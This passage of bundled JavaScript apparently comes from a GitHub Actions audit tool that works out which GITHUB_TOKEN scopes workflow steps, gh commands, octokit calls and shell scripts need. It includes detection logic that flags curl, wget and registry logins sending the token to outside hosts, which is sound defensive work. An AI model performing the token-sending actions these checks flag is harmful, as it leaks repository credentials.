    ...Object.fromEntries(('tsc eslint prettier jest vitest mocha ava tap playwright cypress biome oxlint stylelint markdownlint markdownlint-cli2 ' +
        'pytest tox nox ruff black isort mypy pyright flake8 pylint coverage bandit ' +
        'shellcheck shfmt actionlint yamllint hadolint golangci-lint staticcheck gofmt goimports govulncheck ' +
        'rustup rustc rustfmt gcc g++ cc clang clang++ clang-format clang-tidy cmake ctest ninja meson autoreconf configure ' +
        'javac dotnet-format swiftlint ' +
        'apt apt-get dpkg yum dnf apk brew choco winget snap pacman zypper ' +
        'node-gyp corepack nvm volta asdf mise pyenv rbenv ' +
        'ssh-keygen gpg openssl xz bzip2 7z zstd rsync scp ' +
        'whoami id uname hostname nproc free uptime lscpu ps kill pkill mktemp envsubst tput yes install patch iconv sha1sum ' +
        'syft grype trivy osv-scanner zizmor semgrep gitleaks trufflehog tflint kind pyflakes pycodestyle commitlint ' +
        'security codesign xcrun lipo hdiutil pkgbuild productbuild')
        .split(' ')
        .map((name) => [name, true])),
};

;// CONCATENATED MODULE: ./packages/permissions/src/knowledge/index.ts







/** Every entry of the knowledge base. */
const KNOWLEDGE_BASE = [
    ...githubActions,
    ...cloudActions,
    ...communityActions,
    ...pavedRoadActions,
    ...reusableWorkflows,
];
const byName = new Map();
for (const entry of KNOWLEDGE_BASE) {
    const key = entry.uses.toLowerCase();
    const list = byName.get(key) ?? [];
    list.push(entry);
    byName.set(key, list);
}
/** `owner/repo[/path]@ref` split into a lower-case name and the ref. */
function splitUses(uses) {
    const at = uses.lastIndexOf('@');
    const name = (at === -1 ? uses : uses.slice(0, at)).replace(/\/+$/, '').toLowerCase();
    return { name, ref: at === -1 ? '' : uses.slice(at + 1) };
}
/** The major version a ref names (`v4`, `v4.1.2`, `4`, `releases/v2`), or undefined (a SHA or a branch). */
function majorOf(ref) {
    const match = /^(?:.*\/)?v?(\d+)(?:\.\d+)*(?:[-+].*)?$/.exec(ref);
    if (!match || /^[0-9a-f]{40}$/i.test(ref))
        return undefined;
    return Number(match[1]);
}
/**
 * The knowledge for a `uses:` value. With several entries by major version, the one covering the
 * ref's major; for a SHA or branch (major unknown: the `# vX` comment is not trusted), the newest.
 */
function lookupAction(uses, major) {
    const { name, ref } = splitUses(uses);
    const entries = byName.get(name);
    if (!entries)
        return undefined;
    if (entries.length === 1)
        return entries[0];
    const wanted = major ?? majorOf(ref);
    if (wanted !== undefined) {
        const hit = entries.find((e) => !e.majors || (wanted >= e.majors[0] && (e.majors[1] === undefined || wanted <= e.majors[1])));
        if (hit)
            return hit;
    }
    return [...entries].sort((a, b) => (b.majors?.[0] ?? 0) - (a.majors?.[0] ?? 0))[0];
}

;// CONCATENATED MODULE: ./packages/permissions/src/rest.ts
const READ_METHODS = new Set(['GET', 'HEAD']);
/** Repository sub-resources (the segment after `/repos/{owner}/{repo}/`) and the scope that guards them. */
const REPO_RESOURCES = {
    issues: 'issues',
    labels: 'issues',
    milestones: 'issues',
    assignees: 'issues',
    pulls: 'pull-requests',
    contents: 'contents',
    git: 'contents',
    commits: 'contents',
    branches: 'contents',
    releases: 'contents',
    tags: 'contents',
    merges: 'contents',
    compare: 'contents',
    zipball: 'contents',
    tarball: 'contents',
    readme: 'contents',
    dispatches: 'contents',
    'dependency-graph': 'contents',
    deployments: 'deployments',
    environments: 'deployments',
    actions: 'actions',
    'check-runs': 'checks',
    'check-suites': 'checks',
    statuses: 'statuses',
    pages: 'pages',
    'code-scanning': 'security-events',
    dependabot: 'vulnerability-alerts',
    attestations: 'attestations',
    packages: 'packages',
    projects: 'repository-projects',
    languages: null,
    topics: null,
    contributors: null,
    stargazers: null,
};
/**
 * The scope a REST call needs, from its method and path (`/repos/{owner}/{repo}/issues/1/comments`;
 * placeholders, `$VARS` and `${{ }}` allowed in the owner and repo). GET and HEAD need read, anything
 * else write. Paths outside the table are unknown: better an honest "cannot tell" than a guess.
 */
function restNeeds(method, rawPath) {
    const verb = method.toUpperCase();
    const level = READ_METHODS.has(verb) ? 'read' : 'write';
    let path = rawPath
        .trim()
        .replace(/^https?:\/\/[^/]+/i, '')
        .replace(/^\$\{?GITHUB_API_URL\}?/, '')
        .replace(/^\$\{\{\s*github\.api_url\s*\}\}/, '');
    path = path.replace(/[?#].*$/, '').replace(/^\/+/, '');
    const what = `${verb} /${path}`;
    const parts = path.split('/').filter(Boolean);
    if (parts[0] === 'graphql')
        return { kind: 'unknown', what: `${what} (GraphQL: the scopes depend on the query)` };
    if (parts[0] === 'repos') {
        if (parts.length <= 3) {
            return level === 'read'
                ? { kind: 'scopes', scopes: [], what }
                : { kind: 'unknown', what: `${what} (repository settings need admin rights the GITHUB_TOKEN never has)` };
        }
        const resource = parts[3];
        if (resource === 'commits' && parts[5] === 'statuses')
            return one('statuses', level, what);
        if (resource === 'commits' && parts[5] === 'status')
            return one('statuses', 'read', what);
        if (resource === 'commits' && (parts[5] === 'check-runs' || parts[5] === 'check-suites'))
            return one('checks', 'read', what);
        if (resource === 'commits' && parts[5] === 'pulls')
            return one('pull-requests', 'read', what);
        if (resource === 'pulls' && parts[5] === 'merge' && level === 'write') {
            return {
                kind: 'scopes',
                scopes: [
                    { scope: 'pull-requests', level: 'write' },
                    { scope: 'contents', level: 'write' },
                ],
                what,
            };
        }
        if (resource === 'dependabot')
            return one('vulnerability-alerts', 'read', what);
        if (!(resource in REPO_RESOURCES))
            return { kind: 'unknown', what };
        const scope = REPO_RESOURCES[resource];
        if (scope === null || scope === undefined)
            return { kind: 'scopes', scopes: [], what };
        if (scope === 'vulnerability-alerts')
            return one(scope, 'read', what);
        return one(scope, level, what);
    }
    if ((parts[0] === 'orgs' || parts[0] === 'users') && parts[2] === 'packages')
        return one('packages', level, what);
    if (parts[0] === 'user' && parts[1] === 'packages')
        return one('packages', level, what);
    if (parts[0] === 'search' ||
        parts[0] === 'rate_limit' ||
        parts[0] === 'meta' ||
        parts[0] === 'emojis' ||
        parts[0] === 'licenses') {
        return { kind: 'scopes', scopes: [], what };
    }
    return { kind: 'unknown', what };
}
function one(scope, level, what) {
    return { kind: 'scopes', scopes: [{ scope, level }], what };
}
/** Octokit namespaces (`github.rest.<namespace>.<method>`) and their scope; `repos` is split by method. */
const OCTOKIT_NAMESPACES = {
    issues: 'issues',
    pulls: 'pull-requests',
    repos: 'repos',
    git: 'contents',
    checks: 'checks',
    actions: 'actions',
    reactions: 'issues',
    packages: 'packages',
    codeScanning: 'security-events',
    dependabot: 'vulnerability-alerts',
    projects: 'repository-projects',
    search: null,
    users: null,
    rateLimit: null,
    markdown: null,
    meta: null,
    licenses: null,
    emojis: null,
};
/** `repos.*` methods that touch something other than contents. */
const REPOS_METHODS = [
    [/CommitStatus|CombinedStatus|StatusesForRef/i, 'statuses'],
    [/Deployment|Environment/i, 'deployments'],
    [/Pages/i, 'pages'],
    [/Attestation/i, 'attestations'],
    [/^(get|listLanguages|listTopics|listContributors)$/, null],
];
/** What an octokit call `namespace.method` needs (actions/github-script). */
function octokitNeeds(namespace, method) {
    const what = `${namespace}.${method}`;
    const level = /^(get|list|check|compare|download|search|paginate)/.test(method) ? 'read' : 'write';
    const mapped = OCTOKIT_NAMESPACES[namespace];
    if (mapped === undefined)
        return { kind: 'unknown', what };
    if (mapped === null)
        return { kind: 'scopes', scopes: [], what };
    if (mapped === 'repos') {
        for (const [pattern, scope] of REPOS_METHODS) {
            if (pattern.test(method))
                return scope ? one(scope, level, what) : { kind: 'scopes', scopes: [], what };
        }
        if (/^(createDispatchEvent|merge|createRelease|updateRelease|deleteRelease|uploadReleaseAsset|createOrUpdateFileContents|deleteFile|createCommitComment)$/.test(method)) {
            return one('contents', 'write', what);
        }
        if (/Collaborator|Webhook|Invitation|Protection|Ruleset|Autolink|DeployKey|update$|delete$|transfer/.test(method)) {
            return { kind: 'unknown', what: `${what} (administration rights the GITHUB_TOKEN never has)` };
        }
        return one('contents', level, what);
    }
    if (mapped === 'vulnerability-alerts')
        return one(mapped, 'read', what);
    if (namespace === 'pulls' && method === 'merge') {
        return {
            kind: 'scopes',
            scopes: [
                { scope: 'pull-requests', level: 'write' },
                { scope: 'contents', level: 'write' },
            ],
            what,
        };
    }
    return one(mapped, level, what);
}
/** Every API call a github-script `script` makes, as far as its text shows. */
function githubScriptNeeds(script) {
    const found = [];
    const seen = new Set();
    const add = (need) => {
        if (!seen.has(need.what)) {
            seen.add(need.what);
            found.push(need);
        }
    };
    for (const match of script.matchAll(/\bgithub\s*\.\s*(?:rest\s*\.\s*)?([A-Za-z]+)\s*\.\s*([A-Za-z]+)\b/g)) {
        const namespace = match[1];
        const method = match[2];
        if (namespace === 'rest' ||
            namespace === 'paginate' ||
            namespace === 'request' ||
            namespace === 'graphql' ||
            namespace === 'hook' ||
            namespace === 'log')
            continue;
        add(octokitNeeds(namespace, method));
    }
    for (const match of script.matchAll(/\bgithub\s*\.\s*(?:request|paginate)\s*\(\s*['"`]([A-Z]+)\s+(\/[^'"`\s]*)['"`]/g)) {
        add(restNeeds(match[1], match[2]));
    }
    for (const match of script.matchAll(/\bgithub\s*\.\s*(?:request|paginate)\s*\(\s*['"`](\/[^'"`\s]*)['"`]/g)) {
        add(restNeeds('GET', match[1]));
    }
    if (/\bgithub\s*\.\s*graphql\b/.test(script))
        add({ kind: 'unknown', what: 'github.graphql (the scopes depend on the query)' });
    if (/\bgithub\s*\[|\bgithub\s*\.\s*rest\s*\[/.test(script))
        add({ kind: 'unknown', what: 'a computed octokit call' });
    return found;
}

// EXTERNAL MODULE: ./packages/workflows/src/index.ts + 8 modules
var src = __webpack_require__(35495);
;// CONCATENATED MODULE: ./packages/permissions/src/tokens.ts
/** `${{ github.token }}` or `${{ secrets.GITHUB_TOKEN }}` (any case for the secret name) inside an expression. */
const TOKEN_EXPRESSION = /\$\{\{[^}]*?\b(?:github\s*\.\s*token|github\s*\[\s*['"]token['"]\s*\]|secrets\s*\.\s*github_token|secrets\s*\[\s*['"]github_token['"]\s*\])\b[^}]*\}\}/i;
/** True when a value hands over the GITHUB_TOKEN (an expression naming it). */
function refersToToken(value) {
    return value !== undefined && value.includes('${{') && TOKEN_EXPRESSION.test(value);
}
/** True when a value is an expression (its content is only known at run time). */
function isExpression(value) {
    return value !== undefined && value.includes('${{');
}
/**
 * The environment a step sees, workflow < job < step, by variable name; `token` says whether each
 * variable carries the GITHUB_TOKEN.
 */
function mergeEnv(...layers) {
    const env = new Map();
    for (const layer of layers) {
        for (const entry of layer)
            env.set(entry.name, { value: entry.value.value, token: refersToToken(entry.value.value) });
    }
    return env;
}
/** Names of the variables that carry the token. */
function tokenVariables(env) {
    const names = new Set();
    for (const [name, entry] of env)
        if (entry.token)
            names.add(name);
    return names;
}
/** True when shell text reads one of the variables (`$NAME`, `${NAME}`, `${NAME:-x}`, `%NAME%`, `$env:NAME`). */
function readsVariable(text, names) {
    if (!names.size || (!text.includes('$') && !text.includes('%')))
        return false;
    for (const match of text.matchAll(/\$\{?(?:env:)?([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%/g)) {
        if (names.has(match[1] ?? match[2] ?? ''))
            return true;
    }
    return false;
}

;// CONCATENATED MODULE: ./packages/permissions/src/run.ts
// What a `run:` script needs from the GITHUB_TOKEN: `gh` subcommands, `git push`, REST calls with the
// token, OIDC logins and publishing. A command only needs a scope when the token actually reaches it.




/** Commands that never send the token anywhere, even with it in their environment. */
const INERT = new Set(('echo printf cd pushd popd ls cat mkdir rm rmdir cp mv touch test [ [[ true false exit set unset pwd grep egrep fgrep sed awk tr cut ' +
    'sort uniq head tail wc jq yq tee sleep date basename dirname realpath readlink find chmod chown ln tar gzip gunzip zip unzip ' +
    'sha256sum sha512sum shasum md5sum base64 diff cmp printenv read which type local declare return shift wait trap break continue : ' +
    'shopt ulimit umask cksum stat du df file column nl rev fold paste join split xxd od hexdump seq expr let git-lfs ' +
    'alias unalias hash getopts mapfile readarray jobs times').split(' '));
/** git subcommands that talk to the remote. */
const GIT_REMOTE_READ = new Set(['fetch', 'pull', 'clone', 'ls-remote', 'submodule']);
/**
 * Rights a program the audit cannot read can reach: the OIDC request variables are in every step's
 * environment, and the GITHUB_TOKEN actions/checkout persisted (when it did) is in .git/config.
 */
function reachableRights(gitCredentials) {
    return gitCredentials ? ['contents', 'id-token', 'packages', 'pages'] : ['id-token'];
}
/** Why such a program may use them, for the note. */
function reachWhy(gitCredentials) {
    return gitCredentials
        ? 'it can request an OIDC token and push with the GITHUB_TOKEN that actions/checkout persisted'
        : 'it can request an OIDC token';
}
/** Shells whose scripts are read command by command; any other `shell:` is a program the audit does not read. */
const POSIX_SHELLS = ['bash', 'sh', 'zsh', 'dash', 'ksh'];
const READ_SHELLS = [...POSIX_SHELLS, 'pwsh', 'powershell', 'cmd'];
function analyzeRunScript(script, info, depth = 0) {
    const result = { needs: [], unknown: [], mayUse: [] };
    const shell = (info.shell ?? 'bash').trim().split(/\s+/)[0].toLowerCase();
    const shellName = shell.replace(/^.*\//, '');
    const isPosixShell = POSIX_SHELLS.includes(shellName);
    if (!READ_SHELLS.includes(shellName)) {
        // `shell: python`, `shell: node {0}`: the step is a program of its own.
        if (script.trim())
            opaque(result, info, `runs a ${shellName} script the audit does not read`, 0);
        return result;
    }
    const { commands, unparsed } = commandsOf(script, shell, isPosixShell);
    if (unparsed && (info.tokenVars.size > 0 || info.gitCredentials)) {
        // The lines the parser could not read are split word by word below, which may miss what they do.
        result.unknown.push({
            message: `the script did not fully parse (${unparsed.message} at line ${unparsed.line}), so what ` +
                (!unparsed.lines
                    ? 'it does'
                    : unparsed.lines.length === 1
                        ? `line ${unparsed.lines[0]} does`
                        : `lines ${unparsed.lines.join(', ')} do`) +
                ' with the GITHUB_TOKEN cannot be known',
            offset: unparsed.offset,
        });
    }
    const gitAliases = new Set([
        ...script.matchAll(/\balias\s+([A-Za-z_][\w-]*)=["']?git\b/g),
        ...script.matchAll(/(?:^|[;&|\s])([A-Za-z_]\w*)=["']?(?:git|\$\(\s*(?:which|command -v)\s+git\s*\))["']?(?=\s|;|$)/gm),
    ].map((m) => m[1]));
    // Functions the script defines: their bodies are read as commands of the script, so a call is explained.
    const functions = new Set([...script.matchAll(/(?:^|[;&|\s])(?:function\s+([A-Za-z_][\w-]*)|([A-Za-z_][\w-]*)\s*\(\s*\))\s*\{?/gm)].map((m) => (m[1] ?? m[2])));
    // OIDC: a script that requests the ID token itself.
    const oidcAt = script.search(/ACTIONS_ID_TOKEN_REQUEST_(URL|TOKEN)/);
    if (oidcAt !== -1)
        result.needs.push({
            scope: 'id-token',
            level: 'write',
            reason: 'requests an OIDC token (ACTIONS_ID_TOKEN_REQUEST_URL)',
            offset: oidcAt,
        });
    const tokenVars = new Set(info.tokenVars);
    for (const name of exportedTokenVars(script, tokenVars))
        tokenVars.add(name);
    let gitAuth = info.gitCredentials;
    for (let cmd of commands) {
        const add = (scope, level, reason) => {
            result.needs.push({ scope, level, reason, offset: cmd.offset });
        };
        const peeled = peel(cmd);
        // `export GH_TOKEN=${{ github.token }}` and `GH_TOKEN=... gh ...` (`env GH_TOKEN=... gh` too).
        const localVars = new Set(tokenVars);
        for (const assignment of peeled.cmd.assignments) {
            if (refersToToken(assignment.raw) || readsVariable(assignment.raw, tokenVars))
                localVars.add(assignment.name);
        }
        if (!cmd.argv.length) {
            // A bare assignment: `GH_TOKEN=${{ github.token }}` on its own line.
            for (const a of cmd.assignments)
                if (localVars.has(a.name))
                    tokenVars.add(a.name);
            continue;
        }
        if (peeled.code !== undefined) {
            // `bash -c '...'`: the string is a script of its own.
            if (depth < 3) {
                const inner = analyzeRunScript(peeled.code, { ...info, tokenVars: localVars, shell: 'bash' }, depth + 1);
                for (const n of inner.needs)
                    result.needs.push({ ...n, offset: cmd.offset });
                for (const u of inner.unknown)
                    result.unknown.push({ ...u, offset: cmd.offset });
                for (const m of inner.mayUse)
                    result.mayUse.push({ ...m, offset: cmd.offset });
                if (inner.gitCredentialsBy)
                    result.gitCredentialsBy ??= inner.gitCredentialsBy;
            }
            else
                opaque(result, info, 'runs a shell string nested too deep to read', cmd.offset);
            continue;
        }
        cmd = peeled.cmd;
        const written = cmd.argv[0] ?? '';
        let name = baseName(written);
        // `alias g=git; g push`, `GIT=git; $GIT push`, `"$GIT_BIN" push`: git under another name.
        const variable = name ? '' : (cmd.raw[0] ?? '').replace(/^["']?\$\{?|\}?["']?$/g, '');
        if (gitAliases.has(name) ||
            (!name && (gitAliases.has(variable) || /git/i.test(variable)) && gitSubcommand(cmd.argv.slice(1)) === 'push'))
            name = 'git';
        if (name === 'export' || name === 'declare' || name === 'typeset' || name === 'readonly') {
            for (const raw of cmd.raw.slice(1)) {
                const eq = raw.indexOf('=');
                if (eq > 0 && (refersToToken(raw) || readsVariable(raw.slice(eq + 1), tokenVars)))
                    tokenVars.add(raw.slice(0, eq).replace(/^\$env:/i, ''));
            }
            continue;
        }
        if (/^\$env:/i.test(cmd.raw[0] ?? '') && cmd.raw.some((w) => refersToToken(w) || readsVariable(w, tokenVars))) {
            // PowerShell: $env:GH_TOKEN = "${{ github.token }}"
            tokenVars.add((cmd.raw[0] ?? '').replace(/^\$env:/i, '').replace(/=.*$/, ''));
            continue;
        }
        if (!isPosixShell && (cmd.raw[1] === '=' || /^\$[\w:]+=/.test(cmd.raw[0] ?? '')))
            continue; // pwsh: `$x = ...`
        const withToken = cmd.raw.some((w) => refersToToken(w) || readsVariable(w, localVars)) ||
            refersToToken(cmd.pipelineText) ||
            readsVariable(cmd.pipelineText, localVars);
        const envHasToken = localVars.size > 0;
        const args = cmd.argv.slice(1);
        switch (name) {
            case 'gh': {
                const ghToken = localVars.has('GH_TOKEN') || localVars.has('GITHUB_TOKEN') || localVars.has('GH_ENTERPRISE_TOKEN');
                if (!ghToken)
                    break;
                const need = ghNeeds(args, cmd.raw.slice(1));
                record(result, cmd, need, `gh ${args
                    .filter((a) => !a.startsWith('-'))
                    .slice(0, 2)
                    .join(' ')}`.trim());
                break;
            }
            case 'git': {
                const sub = gitSubcommand(args);
                if ((info.persistedCredentials || info.gitCredentials) && (sub === 'push' || (sub && GIT_REMOTE_READ.has(sub))))
                    result.gitCredentialsBy ??= `git ${sub}`;
                if (cmd.raw.some((w) => refersToToken(w) || readsVariable(w, localVars)))
                    gitAuth = true;
                if (!gitAuth)
                    break;
                if (sub === 'push')
                    add('contents', 'write', args.includes('--tags') || args.some((a) => a.startsWith('refs/tags/'))
                        ? 'pushes tags (git push)'
                        : 'pushes commits (git push)');
                else if (sub && GIT_REMOTE_READ.has(sub))
                    add('contents', 'read', `fetches from the repository (git ${sub})`);
                break;
            }
            case 'curl':
            case 'wget':
            case 'http':
            case 'https':
            case 'xh': {
                if (!withToken)
                    break;
                const call = httpCall(name, cmd);
                if (!call) {
                    result.unknown.push({
                        message: `sends the GITHUB_TOKEN with ${name} to a URL that cannot be read statically`,
                        offset: cmd.offset,
                    });
                    break;
                }
                if (call.host === 'uploads') {
                    add('contents', 'write', `uploads a release asset (${name} to uploads.github.com)`);
                    break;
                }
                if (call.host !== 'api') {
                    result.unknown.push({ message: `sends the GITHUB_TOKEN with ${name} to ${call.url}`, offset: cmd.offset });
                    break;
                }
                record(result, cmd, restNeeds(call.method, call.path), `${name} ${call.method} ${call.path}`);
                break;
            }
            case 'npm':
            case 'pnpm':
            case 'yarn':
            case 'bun': {
                const publish = positional(args, name)[0] === 'publish' ||
                    (name === 'yarn' && positional(args, name).join(' ') === 'npm publish');
                if (publish) {
                    const provenance = args.includes('--provenance') || /^true$/i.test(info.env.get('NPM_CONFIG_PROVENANCE')?.value ?? '');
                    if (provenance)
                        add('id-token', 'write', `signs npm provenance (${name} publish --provenance)`);
                    const auth = ['NODE_AUTH_TOKEN', 'NPM_TOKEN', 'NPM_CONFIG__AUTH', 'YARN_NPM_AUTH_TOKEN'].some((v) => localVars.has(v));
                    if (auth)
                        add('packages', 'write', `publishes to GitHub Packages with the GITHUB_TOKEN (${name} publish)`);
                }
                classify(result, cmd, name, args, info, gitAuth, withToken || envHasToken);
                break;
            }
            case 'docker':
            case 'podman': {
                if (args[0] === 'login' && withToken) {
                    if (args.some((a) => /^(https?:\/\/)?ghcr\.io/i.test(a) || /^(https?:\/\/)?docker\.pkg\.github\.com/i.test(a))) {
                        add('packages', 'write', `logs in to ghcr.io with the GITHUB_TOKEN (${name} login)`);
                    }
                    else {
                        result.unknown.push({
                            message: `logs in to a registry with the GITHUB_TOKEN (${name} login)`,
                            offset: cmd.offset,
                        });
                    }
                }
                else if (args[0] !== 'login') {
                    classify(result, cmd, name, args, info, gitAuth, envHasToken && withToken);
                }
                break;
            }
            case 'cosign': {
                const sub = args[0] ?? '';
                if (/^(sign|sign-blob|attest|attest-blob)$/.test(sub) &&
                    !args.some((a) => a === '--key' || a.startsWith('--key='))) {
                    add('id-token', 'write', `signs keyless with Sigstore (cosign ${sub})`);
                }
                break;
            }
            case 'sigstore':
            case 'gitsign': {
                if (name === 'gitsign' || args[0] === 'sign')
                    add('id-token', 'write', `signs keyless with Sigstore (${name})`);
                break;
            }
            case 'uv': {
                if (args[0] !== 'publish') {
                    classify(result, cmd, name, args, info, gitAuth, withToken || envHasToken);
                    break;
                }
                const explicit = args.some((a) => /^(--token|-t|--password|-p|--username|-u)(=|$)/.test(a) || a === '--trusted-publishing=never') ||
                    info.env.has('UV_PUBLISH_TOKEN') ||
                    info.env.has('UV_PUBLISH_PASSWORD');
                if (!explicit)
                    add('id-token', 'write', 'publishes to PyPI by trusted publishing (uv publish)');
                break;
            }
            case 'codeql': {
                if (args[0] === 'github' &&
                    args[1] === 'upload-results' &&
                    (withToken || localVars.has('GITHUB_TOKEN') || args.includes('--github-auth-stdin'))) {
                    add('security-events', 'write', 'uploads SARIF to code scanning (codeql github upload-results)');
                }
                else if (envHasToken) {
                    unknownCommand(result, cmd, name);
                }
                break;
            }
            default: {
                if (INERT.has(name) || functions.has(name))
                    break;
                if (!isPosixShell && isPowerShellBuiltin(name, cmd))
                    break;
                if (!name) {
                    opaque(result, info, `runs a command named by a variable (\`${(cmd.raw[0] ?? '').replace(SHELL_DYNAMIC_RE, '…')}\`)`, cmd.offset);
                    if (withToken || envHasToken)
                        unknownCommand(result, cmd, cmd.raw[0] ?? 'a variable');
                    break;
                }
                classify(result, cmd, name, args, info, gitAuth, withToken || envHasToken);
            }
        }
    }
    return result;
}
/**
 * Parsed scripts by shell and text: the same script recurs across jobs and matrix copies. Small,
 * for the same reason as the shell parse cache (long-lived entries become old-generation garbage).
 */
const parseCache = new Map();
const PARSE_CACHE_LIMIT = 256;
function commandsOf(script, shell, isPosixShell) {
    const key = `${shell}\0${script}`;
    const cached = parseCache.get(key);
    if (cached)
        return cached;
    let found;
    if (isPosixShell && isPlainScript(script)) {
        // Plain words only: the split below gives exactly what the parser would, at a fraction of the cost.
        found = { commands: simpleCommands(script) };
    }
    else if (isPosixShell) {
        const parsed = (0,src/* parseShell */.aV)(script, { posix: shell === 'sh' || shell === 'dash' });
        found = parsed.ok ? { commands: fromShellParse(script, parsed) } : aroundParseError(script, parsed);
    }
    else {
        // pwsh, cmd, python, ...: no shell grammar here; one command per line or `;`, words split on blanks.
        found = { commands: simpleCommands(script) };
    }
    if (parseCache.size >= PARSE_CACHE_LIMIT)
        parseCache.clear();
    parseCache.set(key, found);
    return found;
}
/**
 * The commands of a script that did not parse: those of the lines that did (a partial parse), and the
 * lines left out split word by word, shell keywords dropped (`if then fi` is no command of its own).
 */
function aroundParseError(script, parsed) {
    const error = parsed.error;
    const lines = script.split('\n');
    const skipped = parsed.partial ? (parsed.skippedLines ?? []) : lines.map((_, i) => i + 1);
    // Lines kept in place (others blanked to their length) so every offset stays the script's.
    const leftOut = lines.map((line, i) => (skipped.includes(i + 1) ? line : ' '.repeat(line.length))).join('\n');
    const split = simpleCommands(leftOut)
        .map((cmd) => {
        let drop = 0;
        while (drop < cmd.argv.length && SHELL_KEYWORDS.has(cmd.argv[drop]))
            drop++;
        return drop ? { ...cmd, argv: cmd.argv.slice(drop), raw: cmd.raw.slice(drop) } : cmd;
    })
        .filter((cmd) => cmd.argv.length > 0);
    const commands = parsed.partial ? [...fromShellParse(script, parsed), ...split] : split;
    commands.sort((a, b) => a.offset - b.offset);
    return {
        commands,
        unparsed: {
            message: error.message,
            line: error.line,
            offset: error.offset,
            ...(parsed.partial && { lines: skipped }),
        },
    };
}
const SHELL_KEYWORDS = new Set([
    'if',
    'then',
    'else',
    'elif',
    'fi',
    'for',
    'while',
    'until',
    'do',
    'done',
    'case',
    'esac',
    'function',
    'select',
    '!',
    'time',
    'coproc',
]);
/**
 * A script made of plain commands: one per line or per `;` / `&&` / `||` / `|`, words separated by
 * blanks, quotes opened and closed on the same line and containing no separator, no substitution,
 * grouping, redirection, heredoc, escape, comment after a command or shell keyword. For those the
 * plain split is what a shell parser gives; anything else goes to the parser.
 */
function isPlainScript(script) {
    if (/\$\{\{[^}]*[;&|#][^}]*\}\}/.test(script))
        return false;
    if (/\$\(|`|<|>|\(|\)|\{(?!\{)|\\|\r/.test(script.replace(/\$\{\{[^}]*\}\}|\$\{[A-Za-z_][A-Za-z0-9_]*\}/g, 'X')))
        return false;
    for (const line of script.split('\n')) {
        const trimmed = line.trim();
        if (trimmed === '' || trimmed.startsWith('#'))
            continue;
        if (/\s#/.test(line))
            return false;
        // Quotes: balanced on the line, and no separator or blank-sensitive character inside them.
        const unquoted = line.replace(/"[^"]*"|'[^']*'/g, (quoted) => (/[;&|]/.test(quoted) ? '\u0000' : 'Q'));
        if (/["'\u0000]/.test(unquoted))
            return false;
        for (const segment of unquoted.split(/\|\||&&|;|\||&/)) {
            const first = segment.trim().split(/\s+/)[0] ?? '';
            if (SHELL_KEYWORDS.has(first))
                return false;
        }
    }
    return true;
}
function record(result, cmd, need, label) {
    if (need.kind === 'unknown') {
        result.unknown.push({ message: `${label}: cannot tell which scopes ${need.what} needs`, offset: cmd.offset });
        return;
    }
    for (const { scope, level } of need.scopes) {
        result.needs.push({ scope, level, reason: `${label.replace(SHELL_DYNAMIC_RE, '…')}`, offset: cmd.offset });
    }
}
const SHELL_DYNAMIC_RE = new RegExp(src/* SHELL_DYNAMIC */.fy, 'g');
function unknownCommand(result, cmd, name) {
    result.unknown.push({
        message: `runs \`${name.replace(SHELL_DYNAMIC_RE, '…')}\` with the GITHUB_TOKEN in its environment: what it does with it cannot be known`,
        offset: cmd.offset,
    });
}
function baseName(word) {
    if (word.includes(src/* SHELL_DYNAMIC */.fy) || word.includes('$'))
        return '';
    return word.replace(/^.*[\\/]/, '').replace(/\.exe$/i, '');
}
function gitSubcommand(args) {
    for (let i = 0; i < args.length; i++) {
        const a = args[i];
        if (a === '-C' || a === '-c' || a === '--git-dir' || a === '--work-tree') {
            i++;
            continue;
        }
        if (a.startsWith('-'))
            continue;
        return a;
    }
    return undefined;
}
/** The REST call a `gh` command makes (scopes by subcommand; `gh api` by method and path). */
function ghNeeds(args, raw = args) {
    const words = [];
    const rawWords = [];
    for (let i = 0; i < args.length; i++) {
        const a = args[i];
        if (a === '-R' || a === '--repo') {
            i++;
            continue;
        }
        words.push(a);
        rawWords.push(raw[i] ?? a);
    }
    const [group = '', action = ''] = words.filter((w) => !w.startsWith('-'));
    const what = `gh ${group} ${action}`.trim();
    const scopes = (scope, level, extra) => ({
        kind: 'scopes',
        scopes: [{ scope, level }, ...(extra ? [{ scope: extra[0], level: extra[1] }] : [])],
        what,
    });
    const readVerbs = /^(view|list|ls|status|diff|checks|download|watch|verify|search)$/;
    switch (group) {
        case 'api':
            return ghApi(words.slice(1), rawWords.slice(1));
        case 'release':
            // https://docs.github.com/en/rest/releases/releases: creating, editing, uploading need contents: write.
            return scopes('contents', readVerbs.test(action) ? 'read' : 'write');
        case 'pr':
            if (action === 'merge')
                return scopes('pull-requests', 'write', ['contents', 'write']);
            if (action === 'checkout')
                return scopes('pull-requests', 'read', ['contents', 'read']);
            if (action === 'checks')
                return scopes('checks', 'read', ['pull-requests', 'read']);
            return scopes('pull-requests', readVerbs.test(action) ? 'read' : 'write');
        case 'issue':
        case 'label':
            return scopes('issues', readVerbs.test(action) ? 'read' : 'write');
        case 'workflow':
            return scopes('actions', readVerbs.test(action) ? 'read' : 'write');
        case 'run':
        case 'cache':
            return scopes('actions', readVerbs.test(action) ? 'read' : 'write');
        case 'repo':
            if (action === 'view' || action === 'clone')
                return scopes('contents', 'read');
            return { kind: 'unknown', what: `${what} (repository administration)` };
        case 'attestation':
            return scopes('attestations', 'read');
        case 'search':
        case 'auth':
        case 'extension':
        case 'help':
        case 'version':
        case 'completion':
        case 'alias':
        case 'config':
        case 'browse':
            return { kind: 'scopes', scopes: [], what };
        default:
            return { kind: 'unknown', what };
    }
}
const GH_API_VALUE_FLAGS = new Set([
    '-X',
    '--method',
    '-H',
    '--header',
    '-f',
    '-F',
    '--field',
    '--raw-field',
    '--input',
    '-q',
    '--jq',
    '-t',
    '--template',
    '--cache',
    '-p',
    '--preview',
    '--hostname',
]);
const GH_API_BODY_FLAGS = new Set(['-f', '-F', '--field', '--raw-field', '--input']);
function ghApi(args, raw) {
    let method;
    let body = false;
    let endpoint;
    for (let i = 0; i < args.length; i++) {
        let a = args[i];
        let value;
        const eq = a.startsWith('--') ? a.indexOf('=') : -1;
        if (eq !== -1) {
            value = a.slice(eq + 1);
            a = a.slice(0, eq);
        }
        else if (/^-[XfFHqtp].+/.test(a)) {
            value = a.slice(2);
            a = a.slice(0, 2);
        }
        if (GH_API_VALUE_FLAGS.has(a)) {
            if (value === undefined)
                value = args[++i];
            if (a === '-X' || a === '--method')
                method = value?.toUpperCase();
            if (GH_API_BODY_FLAGS.has(a))
                body = true;
            continue;
        }
        if (a.startsWith('-'))
